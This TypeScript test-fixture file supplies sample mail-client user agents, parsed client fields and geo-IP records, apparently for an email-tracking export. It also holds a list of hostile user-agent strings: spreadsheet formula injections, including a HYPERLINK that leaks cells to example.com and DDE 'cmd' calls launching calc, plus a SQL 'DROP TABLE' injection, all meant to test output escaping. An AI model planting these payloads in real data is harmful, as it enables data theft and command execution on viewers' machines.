import { NumberLiteral } from "../json-text.js";

/** A mail client, as it shows in opens and clicks. */
export interface Client {
  readonly userAgent: string;
  readonly parsed: Readonly<Record<string, unknown>>;
}

function makeClient(
  userAgent: string,
  [agent, brand, device, os, version]: readonly [string, string, string, string, string],
  flags: { mobile?: true; proxy?: true; prefetched?: true } = {},
): Client {
  return {
    userAgent,
    parsed: {
      agent_family: agent,
      device_brand: brand,
      device_family: device,
      os_family: os,
      os_version: version,
      is_mobile: flags.mobile ?? false,
      is_proxy: flags.proxy ?? false,
      is_prefetched: flags.prefetched ?? false,
    },
  };
}

export const clients: readonly Client[] = [
  makeClient(
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    ["Chrome", "Apple", "Mac", "Mac OS X", "10.15.7"],
  ),
  makeClient("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0", [
    "Firefox",
    "",
    "Other",
    "Windows",
    "10",
  ]),
  makeClient(
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    ["Mobile Safari UI/WKWebView", "Apple", "iPhone", "iOS", "17.5"],
    { mobile: true },
  ),
  makeClient(
    "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
    ["Gmail Image Proxy", "", "Other", "Windows", "XP"],
    { proxy: true },
  ),
  makeClient("Mozilla/5.0", ["Apple Mail", "Apple", "Other", "Other", ""], {
    proxy: true,
    prefetched: true,
  }),
  makeClient("YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html", [
    "YahooMailProxy",
    "Spider",
    "Spider",
    "Other",
    "",
  ]),
];

/** Whoever opens a message chooses the user agent; these aim at the spreadsheet that shows it. */
export const hostileUserAgents: readonly string[] = [
  '=HYPERLINK("http://example.com/?leak="&A1&B1,"Click me")',
  "+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "",
  "'; DROP TABLE events; --",
  'Mozilla "quoted", with, commas; and 🦊',
];

/** Places as `geo_ip` shows them; some numbers are spelt in JSON's less usual ways. */
export const places: readonly Readonly<Record<string, unknown>>[] = [
  {
    country: "US",
    region: "MD",
    city: "Columbia",
    latitude: 39.1749,
    longitude: -76.8375,
    zip: 21046,
    postal_code: "21046",
  },
  {
    country: "US",
    region: "MD",
    city: "Ellicott City",
    latitude: new NumberLiteral("39.10"),
    longitude: new NumberLiteral("-76.80"),
    zip: 21043,
    postal_code: "21043",
  },
  {
    country: "DE",
    region: "BE",
    city: "Berlin-Kreuzberg, Süd",
    latitude: 52.4973,
    longitude: new NumberLiteral("13.40"),
    zip: null,
    postal_code: "10999",
  },
  {
    country: "JP",
    region: "13",
    city: "東京",
    latitude: 35.6895,
    longitude: 139.6917,
    zip: null,
    postal_code: "100-0001",
  },
  {
    country: "BR",
    region: "SP",
    city: "São Paulo",
    latitude: -23.5475,
    longitude: -46.6361,
    zip: null,
    postal_code: "",
  },
  {
    country: "GH",
    region: null,
    city: "",
    latitude: new NumberLiteral("1.0"),
    longitude: new NumberLiteral("-0.0"),
    zip: null,
    postal_code: null,
  },
];
